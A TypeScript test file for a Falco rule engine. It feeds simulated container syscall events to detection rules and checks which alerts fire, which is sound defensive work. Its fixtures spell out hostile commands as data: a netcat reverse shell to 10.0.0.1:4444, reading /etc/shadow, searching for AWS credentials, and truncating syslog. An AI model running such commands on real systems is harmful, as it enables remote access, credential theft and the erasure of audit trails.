// Replays realistic field-map events (what the sensor produces for a container process) against the
// unmodified Falco rules files, and checks which rule fires — and that container-only rules stay quiet
// for the same action on the host (container.id = host).
import { beforeAll, expect, it } from 'vitest';
import { describeWithFixtures, fixture } from '../../../test/support/fixtures.js';
import type { FieldMap } from '../event.js';
import { alertToJson } from './alert.js';
import { loadRules, type LoadResult } from './load.js';

const CID = '3ad7b26ded6d';

/** A process inside a runc container started from a shell, as the sensor reports it. */
function inContainer(f: FieldMap): FieldMap {
  return {
    'evt.rawtime': '1714557600123456789',
    'user.name': 'root',
    'user.uid': 0,
    'user.loginuid': -1,
    'proc.tty': 0,
    'proc.pid': 4242,
    'proc.vpid': 7,
    'proc.cwd': '/',
    'proc.aname': [String(f['proc.name'] ?? 'sh'), 'sh', 'runc', 'containerd-shim', 'systemd'],
    'proc.pname': 'sh',
    'proc.pcmdline': 'sh',
    'proc.pexe': '/bin/sh',
    'proc.pexepath': '/bin/sh',
    'proc.sname': 'sh',
    'proc.is_exe_upper_layer': false,
    'proc.is_exe_from_memfd': false,
    'container.id': CID,
    'container.name': 'web',
    'container.image.repository': 'docker.io/library/debian',
    'container.image.tag': 'bookworm',
    'container.privileged': false,
    ...f,
  };
}

function onHost(f: FieldMap): FieldMap {
  return {
    ...f,
    'container.id': 'host',
    'container.name': 'host',
    'container.image.repository': undefined,
    'container.image.tag': undefined,
    'proc.aname': [String(f['proc.name']), 'bash', 'sshd', 'systemd'],
    'proc.pname': 'bash',
  };
}

const exec = (cmd: string, extra: FieldMap = {}): FieldMap => {
  const [name, ...args] = cmd.split(' ');
  const exe = String(extra['proc.exepath'] ?? `/usr/bin/${name}`);
  return inContainer({
    'evt.type': 'execve',
    'evt.dir': '<',
    'evt.res': 'SUCCESS',
    'evt.arg.flags': '',
    'proc.name': name!,
    'proc.exe': exe,
    'proc.exepath': exe,
    'proc.cmdline': cmd,
    'proc.args': args.join(' '),
    ...extra,
  });
};

const open = (path: string, mode: 'r' | 'w', extra: FieldMap = {}): FieldMap =>
  inContainer({
    'evt.type': 'openat',
    'evt.dir': '<',
    'evt.res': 'SUCCESS',
    'evt.rawres': 3,
    'evt.is_open_read': mode === 'r',
    'evt.is_open_write': mode === 'w',
    'evt.is_open_exec': false,
    'evt.arg.flags': mode === 'r' ? 'O_RDONLY' : 'O_WRONLY|O_CREAT|O_TRUNC',
    'fd.typechar': 'f',
    'fd.type': 'file',
    'fd.num': 3,
    'fd.name': path,
    'proc.name': mode === 'r' ? 'cat' : 'tee',
    'proc.exepath': mode === 'r' ? '/usr/bin/cat' : '/usr/bin/tee',
    'proc.exe': mode === 'r' ? 'cat' : 'tee',
    'proc.cmdline': `${mode === 'r' ? 'cat' : 'tee'} ${path}`,
    'proc.args': path,
    ...extra,
  });

interface Case {
  name: string;
  event: FieldMap;
  rule: string;
  /** The rule requires a container: the same event on the host must not raise it. */
  containerOnly: boolean;
}

const STABLE_CASES: Case[] = [
  {
    name: 'interactive shell',
    event: exec('bash -i', {
      'proc.tty': 34816,
      'proc.pname': 'runc',
      'proc.exepath': '/bin/bash',
      'proc.aname': ['bash', 'runc', 'containerd-shim'],
    }),
    rule: 'Terminal shell in container',
    containerOnly: true,
  },
  {
    name: 'cat /etc/shadow',
    event: open('/etc/shadow', 'r'),
    rule: 'Read sensitive file untrusted',
    containerOnly: false,
  },
  {
    name: 'nc -e reverse shell',
    event: exec('nc -e /bin/sh 10.0.0.1 4444'),
    rule: 'Netcat Remote Code Execution in Container',
    containerOnly: true,
  },
  {
    name: 'binary in /dev/shm',
    event: exec('/dev/shm/x', { 'proc.name': 'x', 'proc.exe': '/dev/shm/x', 'proc.exepath': '/dev/shm/x' }),
    rule: 'Execution from /dev/shm',
    containerOnly: false,
  },
  {
    name: 'dropped binary',
    event: exec('miner --pool x', { 'proc.is_exe_upper_layer': true, 'proc.exepath': '/tmp/miner' }),
    rule: 'Drop and execute new binary in container',
    containerOnly: true,
  },
  {
    name: 'AF_PACKET socket',
    event: inContainer({
      'evt.type': 'socket',
      'evt.arg.domain': 'AF_PACKET',
      'proc.name': 'tcpdump',
      'proc.cmdline': 'tcpdump -i eth0',
      'proc.exepath': '/usr/bin/tcpdump',
    }),
    rule: 'Packet socket created in container',
    containerOnly: true,
  },
  {
    name: 'symlink over /etc/shadow',
    event: inContainer({
      'evt.type': 'symlinkat',
      'evt.arg.target': '/etc/shadow',
      'evt.arg.linkpath': '/tmp/s',
      'proc.name': 'ln',
      'proc.cmdline': 'ln -s /etc/shadow /tmp/s',
      'proc.exepath': '/usr/bin/ln',
    }),
    rule: 'Create Symlink Over Sensitive Files',
    containerOnly: false,
  },
  {
    name: 'dup2 of a socket onto stdin',
    event: inContainer({
      'evt.type': 'dup2',
      'evt.rawres': 0,
      'fd.type': 'ipv4',
      'fd.typechar': '4',
      'fd.name': '172.17.0.2:40000->10.0.0.1:4444',
      'proc.name': 'bash',
      'proc.cmdline': 'bash',
      'proc.exepath': '/bin/bash',
    }),
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    containerOnly: true,
  },
  {
    name: 'log truncation',
    event: open('/var/log/syslog', 'w', {
      'proc.name': 'truncate',
      'proc.cmdline': 'truncate -s0 /var/log/syslog',
    }),
    rule: 'Clear Log Activities',
    containerOnly: false,
  },
  {
    name: 'ptrace attach',
    event: inContainer({
      'evt.type': 'ptrace',
      'evt.dir': '<',
      'evt.arg.request': 'PTRACE_ATTACH',
      'proc.name': 'gdb',
      'proc.cmdline': 'gdb -p 1',
      'proc.exepath': '/usr/bin/gdb',
    }),
    rule: 'PTRACE attached to process',
    containerOnly: false,
  },
  {
    name: 'find aws credentials',
    event: exec('find / -name .aws/credentials'),
    rule: 'Find AWS Credentials',
    containerOnly: false,
  },
];

describeWithFixtures(
  'stable rules fire on realistic field-map events',
  ['falco/falco_rules.yaml', 'falco/falco-sandbox_rules.yaml'],
  () => {
    let stable: LoadResult;
    let withSandbox: LoadResult;
    beforeAll(async () => {
      stable = await loadRules([fixture('falco/falco_rules.yaml')], { hostname: 'node-1' });
      withSandbox = await loadRules(
        [fixture('falco/falco_rules.yaml'), fixture('falco/falco-sandbox_rules.yaml')],
        { hostname: 'node-1' },
      );
      expect(stable.errors).toEqual([]);
      expect(withSandbox.errors).toEqual([]);
    });

    it.each(STABLE_CASES)('$name raises "$rule" in a container', ({ event, rule }) => {
      const alerts = stable.ruleset.evaluateFields(event);
      expect(alerts.map((a) => a.rule)).toEqual([rule]);
      const a = alerts[0]!;
      expect(a.output_fields['container.id']).toBe(CID);
      expect(a.source).toBe('syscall');
      expect(a.hostname).toBe('node-1');
    });

    it.each(STABLE_CASES.filter((c) => c.containerOnly))(
      '$name on the host does not raise "$rule"',
      ({ event, rule }) => {
        const alerts = stable.ruleset.evaluateFields(onHost(event));
        expect(alerts.map((a) => a.rule)).not.toContain(rule);
      },
    );

    it('does not alert on ordinary activity', () => {
      expect(stable.ruleset.evaluateFields(exec('ls -la /app'))).toEqual([]);
      expect(stable.ruleset.evaluateFields(open('/app/config.yaml', 'r'))).toEqual([]);
      expect(stable.ruleset.evaluateFields(exec('bash -c true', { 'proc.tty': 0 }))).toEqual([]);
    });

    it('raises "Write below etc" (sandbox) for a write below /etc, in a container and on the host', () => {
      const ev = open('/etc/evil.conf', 'w', {
        'proc.name': 'touch',
        'proc.cmdline': 'touch /etc/evil.conf',
        'evt.arg.flags': 'O_WRONLY|O_CREAT',
      });
      expect(withSandbox.ruleset.evaluateFields(ev).map((a) => a.rule)).toEqual(['Write below etc']);
      expect(withSandbox.ruleset.evaluateFields(onHost(ev)).map((a) => a.rule)).toEqual(['Write below etc']);
      // Package managers are expected to write below /etc.
      expect(withSandbox.ruleset.evaluateFields({ ...ev, 'proc.name': 'dpkg' })).toEqual([]);
    });

    it('produces Falco JSON alerts with the suggested container and k8s fields', () => {
      const [a] = stable.ruleset.evaluateFields(STABLE_CASES[0]!.event);
      const obj = JSON.parse(alertToJson(a!)) as Record<string, unknown>;
      expect(Object.keys(obj)).toEqual([
        'hostname',
        'output',
        'output_fields',
        'priority',
        'rule',
        'source',
        'tags',
        'time',
      ]);
      expect(obj.time).toBe('2024-05-01T10:00:00.123456789Z');
      expect(obj.priority).toBe('Notice');
      expect(obj.tags).toEqual(['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell']);
      const fields = obj.output_fields as Record<string, unknown>;
      for (const f of [
        'container.id',
        'container.name',
        'container.image.repository',
        'k8s.ns.name',
        'k8s.pod.name',
      ]) {
        expect(fields).toHaveProperty([f]);
      }
      expect(fields['container.name']).toBe('web');
      expect(fields['k8s.pod.name']).toBeNull();
      expect(fields['proc.tty']).toBe(34816);
      expect(alertToJson(a!)).toContain('"evt.time":1714557600123456789');
      expect(obj.output).toMatch(
        /^\d\d:\d\d:\d\d\.123456789: Notice A shell was spawned in a container with an attached terminal \| evt_type=execve user=root .* container_id=3ad7b26ded6d container_name=web container_image_repository=docker.io\/library\/debian container_image_tag=bookworm k8s_pod_name=<NA> k8s_ns_name=<NA>$/,
      );
    });

    it('tells the sensor which syscalls the stable rules need', () => {
      const needs = stable.ruleset.eventTypes();
      expect(needs.all).toBe(false);
      expect(needs.types).toEqual(
        [
          'connect',
          'dup',
          'dup2',
          'dup3',
          'execve',
          'execveat',
          'finit_module',
          'init_module',
          'link',
          'linkat',
          'open',
          'openat',
          'openat2',
          'ptrace',
          'sendmsg',
          'sendto',
          'socket',
          'symlink',
          'symlinkat',
        ].sort(),
      );
    });
  },
);
